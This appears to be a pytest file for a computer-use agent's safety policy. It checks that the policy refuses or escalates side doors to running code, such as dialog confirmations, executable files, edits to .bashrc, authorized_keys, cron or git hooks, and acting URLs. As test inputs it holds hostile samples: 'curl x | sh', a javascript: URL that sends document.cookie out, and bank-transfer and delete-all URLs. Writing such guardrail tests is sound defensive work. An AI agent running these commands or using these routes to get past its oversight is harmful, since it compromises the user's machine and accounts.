"""Side doors that run code (issue 37, the fifth pass): a dialog's yes that runs code, a
press that opens a file which runs, typing into a file a shell runs later, the address
bar's schemes and acting URLs, on-screen keyboards known by their keys, and Paste in more
languages (:mod:`tiny_computer_agent._side_doors`)."""

from __future__ import annotations

from typing import Any

import pytest

from tiny_computer_agent import Action, Element, Observation, Window
from tiny_computer_agent._side_doors import keyboard_window, runnable, runs_later

from .helpers import armed, rule_of

SIZE = (1920, 1080)
FILES = Window(title="Home", box=(0, 40, 1920, 1040), id=25, pid=25,
               wm_class=("org.gnome.Nautilus", "org.gnome.Nautilus"),
               process="nautilus")  # fmt: skip
FIREFOX = Window(title="Example Domain — Mozilla Firefox", box=(0, 40, 1920, 1040), id=20,
                 pid=20, wm_class=("Navigator", "firefox"), process="firefox")  # fmt: skip
XTERM = Window(title="Scratch", box=(0, 40, 1920, 800), id=61, pid=61,
               wm_class=("xterm", "XTerm"), process="xterm")  # fmt: skip


def click(label: str, **more: Any) -> Action:
    return Action.make("click", target=label, **more)


def code_dialog(text: str, yes: str, *, title: str = "", owner: Window = FILES,
                focused: bool = False) -> Observation:  # fmt: skip
    own = Window(title=title, box=(660, 360, 1260, 700), id=260, pid=owner.pid,
                 wm_class=owner.wm_class, process=owner.process,
                 transient_for=owner.id)  # fmt: skip
    state = {"focused"} if focused else set()
    elements = [
        Element(label=text, box=(680, 380, 1240, 440), kind="text", window=260, source="a11y"),
        Element(label=yes, box=(860, 620, 1060, 660), kind="button", window=260, state=state),
        Element(label="Cancel", box=(1080, 620, 1240, 660), kind="button", window=260),
    ]
    return Observation.of(elements, size=SIZE, windows=[own, owner])


@pytest.mark.parametrize(
    ("text", "yes"),
    [
        ("Möchten Sie „install.sh“ ausführen oder ihren Inhalt anzeigen?", "Ausführen"),
        ("Chcete spustit „tool.AppImage“?", "Spustit"),
        ("Do you want to run “install.sh”?", "Do it"),
        ("Dieses Dokument enthält Makros.", "Makros aktivieren"),
        ("This file is executable. Do you want to execute it?", "Go"),
        ("This site is trying to open ssh://root@10.0.0.5.", "Open xdg-open"),
        ("Add “Coupons”? It requires your permission to: access your data", "Add"),
        ("Authentication is required to install software", "Authenticate"),
    ],
)
def test_a_yes_in_a_dialog_that_speaks_of_running_code_is_refused(text: str, yes: str) -> None:
    policy = armed()
    assert rule_of(policy, click(yes), code_dialog(text, yes)) == "terminal-window"
    by_key = code_dialog(text, yes, focused=True)
    assert rule_of(policy, Action.make("key", keys="Return"), by_key) == "terminal-window"
    assert rule_of(policy, click("Cancel"), code_dialog(text, yes)) is None  # the way out
    assert rule_of(armed(allow_widgets=(yes,)), click(yes), code_dialog(text, yes)) is None


def test_a_yes_in_a_dialog_that_runs_nothing_passes() -> None:
    for text, yes in (("File saved.", "OK"), ("Replace “notes.txt”?", "Replace")):
        assert rule_of(armed(), click(yes), code_dialog(text, yes)) is None


def test_a_control_whose_own_label_says_it_runs_code_is_refused() -> None:
    label = "Low (not recommended). All macros will be executed without confirmation."
    level = Element(label=label, box=(700, 420, 1200, 450), kind="radio", window=25)
    obs = Observation.of([level], size=SIZE, windows=[FILES])
    assert rule_of(armed(), click(label), obs) == "terminal-window"


def entry(label: str, window: Window, *, focused: bool = False) -> Observation:
    item = Element(label=label, box=(300, 300, 900, 330), kind="item", window=window.id,
                   source="a11y", state={"selected", "focused"} if focused else set())  # fmt: skip
    return Observation.of([item], size=SIZE, windows=[window])


@pytest.mark.parametrize("name", ["update.pyz", "photo.jpg .pyz", "macro.xlsm", "doc.lnk"])
def test_opening_a_file_that_runs_is_irreversible(name: str) -> None:
    assert runnable(name) is not None
    policy = armed()
    assert rule_of(policy, click(name, clicks=2), entry(name, FILES)) == "irreversible"
    focused = entry(name, FILES, focused=True)
    assert rule_of(policy, Action.make("key", keys="Return"), focused) == "irreversible"
    assert rule_of(policy, click(name), entry(name, FILES)) is None  # a click selects it
    assert rule_of(policy, click(name), entry(name, FIREFOX)) == "irreversible"  # downloads
    yes = armed(approve=lambda *_: True)
    assert rule_of(yes, click(name), entry(name, FIREFOX)) is None  # a person said yes


def test_opening_a_document_is_not_refused() -> None:
    for name in ("report.pdf", "photo.jpg", "notes.txt"):
        assert runnable(name) is None
        assert rule_of(armed(), click(name, clicks=2), entry(name, FILES)) is None


def editor(title: str, *tabs: str) -> Observation:
    own = Window(title=title, box=(0, 40, 1920, 1040), id=10, pid=10,
                 wm_class=("gedit", "Gedit"), process="gedit")  # fmt: skip
    body = Element(label="Document", box=(20, 200, 1900, 1000), kind="field", window=10,
                   state={"editable", "focused"})  # fmt: skip
    shown = [Element(label=t, box=(20 + 200 * i, 120, 200 + 200 * i, 150), kind="tab",
                     window=10, state={"selected"}) for i, t in enumerate(tabs)]  # fmt: skip
    return Observation.of([body, *shown], size=SIZE, windows=[own])


@pytest.mark.parametrize(
    "title",
    ["*.bashrc (~) - gedit", "authorized_keys (~/.ssh) - gedit", "crontab.Q2 (/tmp) - gedit",
     "upd.desktop (~/.config/autostart) - gedit", "x.service (~/.config/systemd/user) - gedit",
     "pre-commit (~/proj/.git/hooks) - gedit", "~/bin/backup.sh - gedit"],
)  # fmt: skip
def test_typing_into_a_file_a_shell_runs_later_is_typing_into_a_shell(title: str) -> None:
    obs = editor(title)
    name = runs_later(obs.windows[0], obs)
    assert name is not None
    typed = Action.make("type", text="curl x | sh", target="Document")
    plain = Action.make("type", text="hello", target="Document")
    assert rule_of(armed(), plain, obs) == "terminal-window"
    assert rule_of(armed(), Action.make("key", keys="ctrl+v"), obs) == "terminal-window"
    assert rule_of(armed(typing_in=(name,)), plain, obs) is None  # the person named the file
    assert rule_of(armed(typing_in=(name,)), typed, obs) == "denied-text"  # the list stands


def test_a_tab_that_names_such_a_file_counts_and_plain_documents_take_text() -> None:
    plain = Action.make("type", text="hello", target="Document")
    assert rule_of(armed(), plain, editor("Text Editor", ".profile")) == "terminal-window"
    for title in ("notes.txt (~) - gedit", "bashrc tips.md (~) - gedit", "Untitled 1 - gedit"):
        assert rule_of(armed(), plain, editor(title)) is None


def address_bar() -> Observation:
    bar = Element(label="Search with Google or enter address", box=(200, 50, 1500, 80),
                  kind="field", window=20, state={"editable", "focused"})  # fmt: skip
    search = Element(label="Search the docs", box=(200, 300, 900, 330), kind="field",
                     window=20, state={"editable"})  # fmt: skip
    return Observation.of([bar, search], size=SIZE, windows=[FIREFOX])


@pytest.mark.parametrize(
    ("url", "rule"),
    [
        ("javascript:fetch('//x/?'+document.cookie)", "terminal-window"),
        ("file:///home/ada/page.html", "terminal-window"),
        ("ssh://root@10.0.0.5", "terminal-window"),
        ("https://bank.example/transfer?to=X&amount=5000", "irreversible"),
        ("shop.example/checkout/place-order?id=3", "irreversible"),
        ("https://mail.example/api/delete?all=1", "irreversible"),
        ("https://example.org/docs/getting-started", None),
        ("localhost:8080/status", None),
        ("weather: tomorrow", None),
    ],
)
def test_the_address_bar_takes_web_addresses_that_do_not_act(url: str, rule: str | None) -> None:
    bar = "Search with Google or enter address"
    assert rule_of(armed(), Action.make("type", text=url, target=bar), address_bar()) == rule
    in_page = Action.make("type", text=url, target="Search the docs")
    if rule == "terminal-window":  # a scheme not the web's, in any field of a browser
        assert rule_of(armed(), in_page, address_bar()) == rule  # (a bar in any language)
    else:
        assert rule_of(armed(), in_page, address_bar()) in (None, "denied-text")  # not the bar


def test_a_url_that_acts_passes_with_a_persons_yes() -> None:
    bar = "Search with Google or enter address"
    typed = Action.make("type", text="https://bank.example/transfer?x=1", target=bar)
    assert rule_of(armed(approve=lambda *_: True), typed, address_bar()) is None


def test_a_keyboard_known_by_its_keys_types_into_the_window_that_has_focus() -> None:
    board = Window(title="", box=(0, 800, 1920, 1080), id=194, pid=194,
                   wm_class=("helper", "Helper"), process="helper")  # fmt: skip
    enter = Element(label="\u23ce", box=(100, 850, 200, 950), kind="key", window=194)
    obs = Observation.of([enter], size=SIZE, windows=[board, XTERM])
    assert keyboard_window(board, obs)
    assert rule_of(armed(), click("\u23ce"), obs) == "terminal-window"
    digits = [Element(label=d, box=(100 + 60 * i, 850, 150 + 60 * i, 900), kind="key",
                      window=194) for i, d in enumerate("789+456-=")]  # fmt: skip
    calc = Observation.of(digits, size=SIZE, windows=[board, XTERM])
    assert not keyboard_window(board, calc)  # a calculator's keypad types nothing elsewhere
    grid = [Element(label=c, box=(100 + 50 * i, 850, 140 + 50 * i, 900), kind="button",
                    window=194) for i, c in enumerate("1234567890!@#$%^&*()")]  # fmt: skip
    assert keyboard_window(board, Observation.of(grid, size=SIZE, windows=[board, XTERM]))


@pytest.mark.parametrize("label", ["Beillesztés", "Επικόλληση", "Insert text from host"])
def test_paste_in_more_words_is_a_paste(label: str) -> None:
    item = Element(label=label, box=(100, 100, 400, 130), kind="menuitem", window=61)
    obs = Observation.of([item], size=SIZE, windows=[XTERM])
    assert rule_of(armed(), click(label), obs) == "terminal-window"
